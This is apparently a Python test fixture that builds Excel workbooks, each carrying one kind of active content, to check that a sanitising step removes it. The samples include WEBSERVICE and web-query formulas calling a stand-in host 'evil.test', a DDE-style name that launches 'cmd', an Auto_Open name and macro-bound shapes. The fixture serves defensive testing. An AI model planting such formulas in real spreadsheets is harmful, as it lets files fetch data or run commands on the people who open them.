"""Workbooks with what may do something by itself, each of one kind, made on the spot.

Knows how such things are kept in an .xlsx. Does not know what becomes of them.
"""

import io
import re
import zipfile
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field

import xlsxwriter

from liaison_pipeline.marking.disarming import Active
from tests.language import ledger, sheet

OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MICROSOFT = "http://schemas.microsoft.com/office"
SHEET, BOOK, PACKAGE = "xl/worksheets/sheet1.xml", "xl/workbook.xml", ""
EVIL = "http://evil.test/x"
MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELATIONS = "http://schemas.openxmlformats.org/package/2006/relationships"


@dataclass(frozen=True)
class Link:
    """A relation to be added. `kind`: a whole type or the last word of one of Office's."""

    owner: str
    kind: str
    target: str
    outside: bool = False


@dataclass(frozen=True)
class Arm:
    """What is put into a good workbook. `parts`: name -> content; `edits`: part -> (before which text,
    what); `traces`: none of these may be found in what goes back; `what`: what is told."""

    name: str
    what: Sequence[Active]
    parts: Mapping[str, str] = field(default_factory=dict)
    links: Sequence[Link] = ()
    edits: Sequence[tuple[str, str, str]] = ()
    traces: Sequence[str] = (EVIL,)


def name_of(formula: str) -> tuple[str, str, str]:
    text = f'<definedName name="数据">{formula}</definedName></definedNames>'
    return BOOK, "</definedNames>", text


def in_sheet(before: str, xml: str) -> tuple[str, str, str]:
    return SHEET, before, f"{xml}{before}"


ARMS = [
    Arm(
        "macros",
        [Active.MACROS],
        {"xl/vbaProject.bin": EVIL},
        [Link(BOOK, f"{MICROSOFT}/2006/relationships/vbaProject", "vbaProject.bin")],
        traces=[EVIL, "vbaProject"],
    ),
    Arm(
        "a ribbon",
        [Active.MACROS],
        {"customUI/customUI.xml": f'<customUI onLoad="{EVIL}"/>'},
        [
            Link(
                PACKAGE, f"{MICROSOFT}/2006/relationships/ui/extensibility", "customUI/customUI.xml"
            )
        ],
        traces=[EVIL, "customUI"],
    ),
    Arm(
        "an ActiveX control",
        [Active.CONTROLS],
        {"xl/activeX/activeX1.xml": f'<ax ax:classid="{EVIL}" xmlns:ax="x"/>'},
        [Link(SHEET, "control", "../activeX/activeX1.xml")],
        [
            in_sheet(
                "</worksheet>",
                f'<controls><mc:AlternateContent xmlns:mc="http://schemas.openxmlformats.org/'
                f'markup-compatibility/2006"><mc:Choice Requires="x14"><control xmlns:r="{OFFICE}" '
                'shapeId="1099" r:id="rIdEvil0" name="Button1"/></mc:Choice></mc:AlternateContent>'
                "</controls>",
            ),
            (
                "xl/drawings/vmlDrawing1.vml",
                "</xml>",
                '<v:shape id="_x0000_s1099"><x:ClientData ObjectType="Pict"><x:FmlaMacro>[0]!a'
                "</x:FmlaMacro></x:ClientData></v:shape></xml>",
            ),
        ],
        [EVIL, "activeX", "Button1", "_x0000_s1099", "FmlaMacro"],
    ),
    Arm(
        "an embedded object",
        [Active.OBJECTS],
        {"xl/embeddings/oleObject1.bin": EVIL},
        [Link(SHEET, "oleObject", "../embeddings/oleObject1.bin")],
        [
            in_sheet(
                "</worksheet>",
                f'<oleObjects><oleObject xmlns:r="{OFFICE}" progId="Package" shapeId="1098" '
                'r:id="rIdEvil0"/></oleObjects>',
            )
        ],
        [EVIL, "oleObject", "embeddings"],
    ),
    Arm(
        "a connection that is refreshed on opening",
        [Active.QUERIES],
        {
            "xl/connections.xml": f'<connections {MAIN}><connection id="1" refreshOnLoad="1">'
            f'<webPr url="{EVIL}"/></connection></connections>',
            "xl/queryTables/queryTable1.xml": f'<queryTable {MAIN} name="a" connectionId="1"/>',
        },
        [
            Link(BOOK, "connections", "connections.xml"),
            Link(SHEET, "queryTable", "../queryTables/queryTable1.xml"),
        ],
        traces=[EVIL, "connection", "queryTable"],
    ),
    Arm(
        "another workbook",
        [Active.LINKS],
        {"xl/externalLinks/externalLink1.xml": f"<externalLink {MAIN}/>"},
        [
            Link(BOOK, "externalLink", "externalLinks/externalLink1.xml"),
            Link("xl/externalLinks/externalLink1.xml", "externalLinkPath", EVIL, True),
        ],
        [
            (
                BOOK,
                "<definedNames>",
                f'<externalReferences><externalReference xmlns:r="{OFFICE}" r:id="rIdEvil0"/>'
                "</externalReferences><definedNames>",
            )
        ],
        [EVIL, "externalLink", "externalReference"],
    ),
    Arm(
        "a name that fetches",
        [Active.FORMULAS],
        edits=[name_of(f'WEBSERVICE("{EVIL}")')],
        traces=[EVIL, "WEBSERVICE"],
    ),
    Arm(
        "a name that starts a program",
        [Active.FORMULAS],
        edits=[name_of("cmd|'/C calc'!A0")],
        traces=["cmd|"],
    ),
    Arm(
        "a name that is run on opening",
        [Active.FORMULAS],
        edits=[
            (
                BOOK,
                "</definedNames>",
                '<definedName name="_xlnm.Auto_Open">台账!$A$1</definedName></definedNames>',
            )
        ],
        traces=["Auto_Open"],
    ),
    Arm(
        "a conditional format that fetches",
        [Active.FORMULAS],
        edits=[
            in_sheet(
                "<dataValidations",
                '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="9">'
                f'<formula>_xlfn.WEBSERVICE("{EVIL}"&amp;A1)=1</formula></cfRule>'
                "</conditionalFormatting>",
            )
        ],
        traces=[EVIL, "WEBSERVICE"],
    ),
    Arm(
        "a drop-down that fetches, and one of later Excels",
        [Active.FORMULAS],
        edits=[
            in_sheet(
                "</dataValidations>",
                '<dataValidation type="list" sqref="A9"><formula1>[3]表!$A$1:$A$2</formula1>'
                "</dataValidation>",
            ),
            in_sheet(
                "</worksheet>",
                '<extLst><ext uri="{CCE6A557-97BC-4b89-ADB6-D9C93CAAB3DF}"><x14:dataValidations '
                'xmlns:x14="x14" xmlns:xm="xm" count="1"><x14:dataValidation><x14:formula1><xm:f>'
                f'HYPERLINK("{EVIL}")</xm:f></x14:formula1><xm:sqref>A1</xm:sqref>'
                "</x14:dataValidation></x14:dataValidations></ext></extLst>",
            ),
        ],
        traces=[EVIL, "[3]", "x14:dataValidation"],
    ),
    Arm(
        "a pivot table",
        [Active.PIVOTS],
        {
            "xl/pivotCache/pivotCacheDefinition1.xml": f'<pivotCacheDefinition {MAIN} refreshOnLoad="1">'
            f'<cacheSource type="external" connectionId="{EVIL}"/></pivotCacheDefinition>'
        },
        [Link(BOOK, "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")],
        [
            (
                BOOK,
                "</workbook>",
                f'<pivotCaches><pivotCache xmlns:r="{OFFICE}" cacheId="1" r:id="rIdEvil0"/>'
                "</pivotCaches></workbook>",
            )
        ],
        [EVIL, "pivotCache"],
    ),
    Arm(
        "a pane of the web",
        [Active.OTHERS],
        {"xl/webextensions/taskpanes.xml": f'<taskpanes url="{EVIL}"/>'},
        [
            Link(
                PACKAGE,
                f"{MICROSOFT}/2011/relationships/webextensiontaskpanes",
                "xl/webextensions/taskpanes.xml",
            )
        ],
        traces=[EVIL, "taskpanes"],
    ),
    Arm(
        "a link to an address",
        [Active.ADDRESSES],
        links=[Link(SHEET, "hyperlink", EVIL, True)],
        edits=[
            in_sheet(
                "</hyperlinks>",
                f'<hyperlink xmlns:r="{OFFICE}" ref="B4" r:id="rIdEvil0"/>',
            )
        ],
        traces=[EVIL, 'ref="B4" r:id'],
    ),
    Arm(
        "a picture that is fetched",
        [Active.ADDRESSES],
        links=[Link("xl/drawings/drawing1.xml", "image", f"{EVIL}.png", True)],
        edits=[("xl/drawings/drawing1.xml", "r:embed=", 'r:link="rIdEvil0" r:embed=')],
    ),
    Arm(
        "a shape that starts a macro",
        [Active.MACROS],
        edits=[("xl/drawings/drawing1.xml", 'macro=""', 'macro="[9]!Evil"')],
        traces=["Evil"],
    ),
    Arm(
        "a chart of another workbook",
        [Active.LINKS, Active.OBJECTS],
        {"xl/embeddings/book1.xlsx": EVIL},
        [Link("xl/charts/chart1.xml", "package", "../embeddings/book1.xlsx")],
        [
            ("xl/charts/chart1.xml", "<c:f>", "<c:f>[8]"),
            (
                "xl/charts/chart1.xml",
                "</c:chartSpace>",
                '<c:externalData r:id="rIdEvil0"><c:autoUpdate val="1"/></c:externalData></c:chartSpace>',
            ),
        ],
        [EVIL, "externalData", "[8]"],
    ),
    Arm(
        "a part of a kind that nobody has heard of",
        [Active.OTHERS],
        {"xl/news/news1.xml": f"<news>{EVIL}</news>"},
        [Link(BOOK, f"{MICROSOFT}/2031/relationships/news", "news/news1.xml")],
        traces=[EVIL, "news"],
    ),
    Arm("a part that nothing leads to", [], {"xl/left/over.xml": f"<f>{EVIL}</f>"}),
    Arm(
        "data of another program",
        [],
        {"customXml/item1.xml": f"<data>{EVIL}</data>"},
        [Link(PACKAGE, "customXml", "customXml/item1.xml")],
    ),
]


def good_workbook() -> bytes:
    """A ledger with one wrong day, and with all that units put around one and that may stay."""
    target = io.BytesIO()
    book = xlsxwriter.Workbook(target, {"strings_to_urls": False})
    page = book.add_worksheet("台账")
    for (row, column), value in sheet(ledger(联系时间="4月31日")).cells.items():
        page.write_string(row, column, str(value))
    page.write_string("Z1", "=1+1")  # a text is a text
    page.data_validation("C4:C9", {"validate": "list", "source": '=INDIRECT("类别")'})
    page.conditional_format("J4:J9", {"type": "formula", "criteria": "=AND(J4>0,TODAY()>1)"})
    page.write_url("B20", "internal:'附表'!A1", string="附表")
    page.write_url("B21", "mailto:a@b.test", string="a@b.test")
    page.insert_textbox("L6", "请盖章")
    page.insert_image("L1", "logo.png", {"image_data": io.BytesIO(_PICTURE)})
    chart = book.add_chart({"type": "column"})
    chart.add_series({"values": "='台账'!$J$4:$J$6"})
    page.insert_chart("L10", chart)
    page.insert_button("L20", {"caption": "查"})
    page.write_comment("B4", "老板姓赵")
    other = book.add_worksheet("附表")
    other.add_table("A1:B2", {"columns": [{"header": "名称"}, {"header": "乙"}]})
    book.define_name("类别", "=OFFSET('附表'!$A$1,0,0,COUNTA('附表'!$A:$A),1)")
    page.print_area("A1:J9")
    book.close()
    return re_buttoned(target.getvalue())


def re_buttoned(data: bytes) -> bytes:
    """The workbook without the macro that XlsxWriter gives to every button."""
    return changed(
        data, {}, [], [("xl/drawings/vmlDrawing1.vml", "<x:FmlaMacro>[^<]*</x:FmlaMacro>", "")]
    )


def armed(*arms: Arm) -> bytes:
    """The good workbook with such things in it; one of them at most has relations."""
    data = good_workbook()
    for arm in arms:
        edits = [(part, re.escape(before), text) for part, before, text in arm.edits]
        data = changed(data, arm.parts, arm.links, edits)
    return data


def changed(
    data: bytes,
    parts: Mapping[str, str],
    links: Sequence[Link],
    edits: Sequence[tuple[str, str, str]],
) -> bytes:
    """A package with more parts, more relations, and other texts in place of what matches."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        own = {name: archive.read(name) for name in archive.namelist()}
    own |= {name: text.encode() for name, text in parts.items()}
    for number, link in enumerate(links):
        _add_link(own, link, f"rIdEvil{number}")
    for part, pattern, text in edits:
        before = own[part].decode()
        after = re.sub(pattern, lambda _, text=text: text, before, count=1)  # type: ignore[misc]
        assert after != before, (part, pattern)
        own[part] = after.encode()
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in own.items():
            archive.writestr(name, content)
    return target.getvalue()


def _add_link(parts: dict[str, bytes], link: Link, identifier: str) -> None:
    folder, _, name = link.owner.rpartition("/")
    rels = f"{folder}/_rels/{name}.rels".lstrip("/")
    kind = link.kind if "://" in link.kind else f"{OFFICE}/{link.kind}"
    mode = ' TargetMode="External"' if link.outside else ""
    entry = f'<Relationship Id="{identifier}" Type="{kind}" Target="{link.target}"{mode}/>'
    empty = f'<Relationships xmlns="{_RELATIONS}"></Relationships>'
    own = parts.get(rels, empty.encode()).decode()
    parts[rels] = own.replace("</Relationships>", f"{entry}</Relationships>").encode()


_PICTURE = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8cfc000"
    "000301010018dd8db00000000049454e44ae426082"
)
